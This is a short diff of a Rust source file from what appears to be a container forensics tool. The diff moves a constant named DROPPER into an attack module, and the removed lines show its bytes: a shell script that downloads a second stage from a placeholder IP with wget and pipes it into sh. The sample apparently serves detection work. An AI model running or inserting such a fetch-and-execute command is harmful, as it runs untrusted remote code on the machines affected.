@@ -4,15 +4,13 @@
 //! (sleuthkit), Falco's 12-digit container ids are matched, and a bundle that does not verify is
 //! refused unless --force.
 
+use crate::attack::DROPPER;
 use crate::podman::{Container, Image, podman};
 use crate::util::*;
 use serde_json::Value;
 use std::collections::BTreeSet;
 use std::path::Path;
 use std::process::Command;
-
-/// The dropped script's exact bytes.
-const DROPPER: &[u8] = b"#!/bin/sh\nwget -q -O- http://203.0.113.7/stage2 | sh\n";
 
 /// One TCP socket as `ss -tanp` shows it, in the decoder's words: `(local, remote, state)`, with
 /// the `(pid, fd)` of its owners.
